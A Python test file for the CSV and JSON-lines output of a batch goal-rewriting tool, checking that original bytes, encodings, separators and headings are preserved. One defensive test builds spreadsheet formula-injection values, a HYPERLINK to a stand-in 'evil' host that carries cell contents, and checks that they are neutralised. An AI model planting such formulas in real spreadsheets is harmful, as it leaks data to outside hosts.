"""Results in CSV and JSON lines: every original byte stays, the table stays a table, nothing becomes a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.batch import source as opening
from assistant.batch.cells import COLUMNS, JUDGED_COLUMNS, heads, words
from assistant.batch.source import open_source
from assistant.errors import InputError
from assistant.files import streaming
from assistant.goals.batch import Rewrite, RowFinding, RowResult, Standing
from tests.batch.outcomes import output, results_of, rewritten
from tests.batch.test_long_lists import CELLS, HEADS


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("lists")


def made(folder, name, content):
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return open_source(path)


def read(content, separator=","):
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=separator))


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(HEADS),
    st.lists(st.lists(CELLS, min_size=1, max_size=7), max_size=8),
    st.sampled_from(["\n", "\r\n", "\r"]),
    st.booleans(),
    st.sampled_from(["", "\ufeff"]),
    st.booleans(),
)
def test_original_cells_and_bytes_stay(folder, head, rows, end, last, bom, quoted):
    out = io.StringIO(newline="")
    style = csv.QUOTE_ALL if quoted else csv.QUOTE_MINIMAL
    writer = csv.writer(out, lineterminator=end, quoting=style)
    writer.writerows([head, *(row[: len(head)] for row in rows)])
    text = out.getvalue() if last else out.getvalue().removesuffix(end)
    try:
        source = made(folder, "t.csv", (bom + text).encode())
    except InputError:
        return
    data, notices = output(source)
    alone = source.separator == ""
    separator = data.decode().removeprefix("\ufeff")[len(_bodies(text)[0])] if alone else source.separator
    before = read(text, "\x1f" if alone else separator)
    after = read(data.decode().removeprefix("\ufeff"), separator)
    assert data.startswith(bom.encode())
    assert len(after) == len(before)
    full = [(old, new) for old, new in zip(before, after, strict=True) if "".join(old) or len(old) > 1]
    assert all(new[: len(old)] == old for old, new in full)
    assert len({len(new) for _, new in full}) <= 1
    if not notices:
        assert sum(new[-len(COLUMNS) :] == list(heads("zh-Hans")) for _, new in full) >= 1
    # each physical line begins with what it was
    assert all(
        new.startswith(old) for old, new in zip(_bodies(bom + text), _starts(data.decode(), bom + text), strict=True)
    )


def _bodies(text):
    return [line for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n") if line]


def _starts(data, text):
    """The output's lines in which the input's lines stand, in order; added cells may hold further lines."""
    wanted, found = _bodies(text), []
    for line in data.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        if len(found) < len(wanted) and line.startswith(wanted[len(found)]):
            found.append(line)
    return found


def test_the_whole_of_a_small_table(tmp_path):
    source = made(tmp_path, "t.csv", "部门,目标\r\n销售,把投诉率降到3%\r\n合计,\r\n")
    data, notices = output(source, columns=("rewritten", "status", "score_before", "score_after", "numbers"))
    assert notices == ()
    assert data.decode() == (
        "部门,目标,改写后的目标,状态,原分数,新分数,新增数字的来源\r\n"
        "销售,把投诉率降到3%,2027年6月30日前把第 0 项降到3%,已改写,40,90,3%：建议，待确认（行业常见值）\r\n"
        "合计,,,,,,\r\n"
    )


def test_a_table_without_rows_gets_its_headings(tmp_path):
    """Case 31."""
    source = made(tmp_path, "t.csv", "部门,目标\n")
    data, _ = output(source, columns=JUDGED_COLUMNS)
    assert source.count == 0
    assert read(data.decode()) == [["部门", "目标", *heads("zh-Hans", JUDGED_COLUMNS)]]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "\x00"])
@pytest.mark.parametrize("separator", [",", "\t"])
def test_no_cell_of_ours_is_a_formula(tmp_path, lead, separator):
    """Cases 46 to 48."""
    source = made(tmp_path, "t.csv", f"id{separator}goal\n1{separator}Cut costs by 5%\n")
    evil = f'{lead}HYPERLINK("http://evil/?x="&A1)'
    (row,) = source.rows()
    data, _ = output(source, [rewritten(row, evil)])
    cells = read(data.decode(), separator)[1]
    assert cells[:2] == ["1", "Cut costs by 5%"]
    assert cells[2].startswith("'")
    assert "\x00" not in cells[2]


def test_several_goals_in_a_row_are_named_by_their_columns(tmp_path):
    source = made(tmp_path, "t.csv", "Objective,KR1,KR2\nGrow,Raise NPS to 40,Cut churn to 3%\n")
    data, _ = output(source, columns=("status",))
    assert read(data.decode())[1][3] == "KR1: 已改写\nKR2: 原样保留"


def test_split_goals_stand_in_one_cell(tmp_path):
    source = made(tmp_path, "t.csv", "id,goal\nG1,Cut costs by 5% and open a shop\n")
    (row,) = source.rows()
    data, _ = output(source, [rewritten(row, "Cut costs by 5%", "Open a shop")], columns=("rewritten",))
    assert read(data.decode())[1][2] == "G1a Cut costs by 5%\nG1b Open a shop"


def test_one_column_gets_a_separator_that_its_goals_do_not_hold(tmp_path):
    source = made(tmp_path, "t.csv", "goal\nCut cost, by June\nOpen a shop\n")
    data, _ = output(source, columns=("status",))
    assert data.decode() == "goal\t状态\nCut cost, by June\t已改写\nOpen a shop\t原样保留\n"
    source = made(tmp_path, "t.csv", "goal\nCut cost, by; June | y\t\nOpen a shop\n")
    data, notices = output(source, columns=("status",))
    assert read(data.decode()) == [
        ["goal", "状态"],
        ["Cut cost, by; June | y\t", "已改写"],
        ["Open a shop", "原样保留"],
    ]
    assert "quotes" in notices[0]


def test_a_line_that_declares_the_separator_stays(tmp_path):
    """Case 45."""
    source = made(tmp_path, "t.csv", "sep=;\r\ngoal;owner\r\nCut cost;Ann\r\n")
    data, _ = output(source, columns=("status",))
    assert data.decode() == "sep=;\r\ngoal;owner;状态\r\nCut cost;Ann;已改写\r\n"


def test_a_table_without_heading_gets_none(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("1,Cut costs by 5%\n2,Open a shop\n", "utf-8")
    data, notices = output(open_source(path, columns={"goal": "2"}), columns=("status",))
    assert data.decode() == "1,Cut costs by 5%,已改写\n2,Open a shop,原样保留\n"
    assert "no heading" in notices[0]


@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-16-be", "utf-8-sig"])
def test_the_encoding_stays(tmp_path, encoding):
    text = "部门,目标\r\n" + "".join(f"销售部,把第{n}项投诉率降到3%\r\n" for n in range(5))
    bom = b"\xfe\xff" if encoding == "utf-16-be" else b""
    raw = bom + text.encode(encoding)
    source = made(tmp_path, "t.csv", raw)
    data, notices = output(source)
    assert notices == ()
    decoded = data.decode("utf-16" if bom else encoding)
    assert [row[:2] for row in read(decoded)] == read(text)
    assert data[:9] == raw[:9]


def test_a_sign_that_big5_lacks_makes_the_output_utf_8(tmp_path):
    text = "部門,目標\r\n" + "業務部,把客戶投訴率降到3%，並且提升服務品質\r\n" * 4
    source = made(tmp_path, "t.csv", text.encode("cp950"))
    data, notices = output(source, language="zh-Hant")
    assert data.startswith(b"\xef\xbb\xbf")
    assert [row[:2] for row in read(data.decode("utf-8-sig"))] == read(text)
    assert "Written as UTF-8" in notices[0]
    assert "Big5" in notices[0]
    plain, notices = output(source, language="zh-Hant", columns=("status",), results=list(results_of(source)))
    assert notices == ()
    assert plain.decode("cp950").startswith("部門,目標,狀態\r\n")


@pytest.mark.parametrize(
    ("encoding", "language", "goal", "said"),
    [("cp950", "zh-Hant", "把客戶投訴率降到3%", "沒有期限"), ("gbk", "zh-Hans", "把客户投诉率降到3%", "没有期限")],
)
def test_what_is_added_stays_in_the_encoding_of_the_list(tmp_path, encoding, language, goal, said):
    """A program that knows only Big5 or GBK shows every added sign, marks and all."""
    head = "目標" if language == "zh-Hant" else "目标"
    source = made(tmp_path, "t.csv", f"ID,{head}\r\n1,{goal}\r\n".encode(encoding))
    row = next(source.rows())
    found = (RowFinding(rule="no-deadline", severity="error", text="x", message=said),)
    mixed = Standing(
        score=40, specific="pass", measurable="warn", achievable="todo", relevant="fail", time_bound="fail",
        consistent="pass", findings=found,
    )  # fmt: skip
    rewrite = Rewrite(id=row.id, text=f"{goal}。", standing=mixed.model_copy(update={"time_bound": "pass"}))
    result = RowResult(
        index=0, id=row.id, state="done", verdict="rewritten", before=mixed, rewrites=(rewrite,), changes=(said,)
    )
    data, notices = output(source, [result], language=language)
    assert notices == ()
    cells = read(data.decode(encoding))[1]
    assert "S √  M △  A –  R ×  T ×→√  C √" in cells


@pytest.mark.parametrize("language", ["zh-Hans", "zh-Hant", "en"])
def test_fixed_words_have_signs_that_old_encodings_have(language):
    def texts(value):
        if isinstance(value, str):
            yield value
        else:
            for each in value.values():
                yield from texts(each)

    said = "".join(texts(words(language)))
    for encoding in {"zh-Hans": ("gbk",), "zh-Hant": ("cp950",), "en": ("gbk", "cp950")}[language]:
        assert said.encode(encoding).decode(encoding) == said


def test_long_tables_are_written_like_short_ones(tmp_path, monkeypatch):
    text = "部门,目标\n" + "".join(f'"销售\n{n}部",把第{n}项投诉率降到3%\n' for n in range(300))
    source = made(tmp_path, "t.csv", text)
    whole = output(source)
    monkeypatch.setattr(opening, "WHOLE", 0)
    monkeypatch.setattr(streaming, "_CHUNK", 100)
    long = open_source(tmp_path / "t.csv")
    assert long.document is None
    assert output(long) == whole


def test_rows_without_a_result_are_pending(tmp_path):
    source = made(tmp_path, "t.csv", "id,goal\n1,Cut costs by 5%\n2,Open a shop\n3,Raise NPS\n")
    rows = list(source.rows())
    data, _ = output(source, [rewritten(rows[2], "x")], columns=("status",))
    assert [row[2] for row in read(data.decode())] == ["状态", "未处理", "未处理", "已改写"]


OBJECTS = st.lists(
    st.fixed_dictionaries(
        {"text": st.sampled_from(["Cut costs by 5%", '含"引号"和}括号', "b\\u}"])},
        optional={
            "id": st.integers(0, 9),
            "rewrite": st.integers(),
            "x": st.dictionaries(st.text(max_size=3), st.none()),
        },
    ),
    min_size=1,
    max_size=5,
)


@settings(max_examples=150, deadline=None)
@given(OBJECTS, st.booleans(), st.booleans(), st.sampled_from(["\n", "\r\n", " \n", "\n\n"]))
def test_objects_keep_all_they_had(folder, objects, ascii_only, tight, end):
    marks = (",", ":") if tight else (", ", ": ")
    lines = [json.dumps(each, ensure_ascii=ascii_only, separators=marks) for each in objects]
    source = made(folder, "t.jsonl", end.join(lines))
    data, _ = output(source)
    found = [line for line in data.decode().split("\n") if line.strip()]
    assert len(found) == len(lines)
    for old, line, value in zip(lines, found, objects, strict=True):
        assert line.startswith(old[:-1])
        new = json.loads(line)
        key = "rewrite_2" if "rewrite" in value else "rewrite"
        assert set(new.pop(key)) == set(COLUMNS)
        assert new == value


def test_the_whole_of_a_line_of_json(tmp_path):
    source = made(tmp_path, "t.jsonl", '{"goal":"降低投诉率","owner":"王"}\n')
    data, _ = output(source, columns=("rewritten", "status", "score_before", "score_after", "reason"))
    assert data.decode() == (
        '{"goal":"降低投诉率","owner":"王","rewrite":{"rewritten":"2027年6月30日前把第 0 项降到3%",'
        '"status":"rewritten","score_before":40,"score_after":90,"reason":""}}\n'
    )
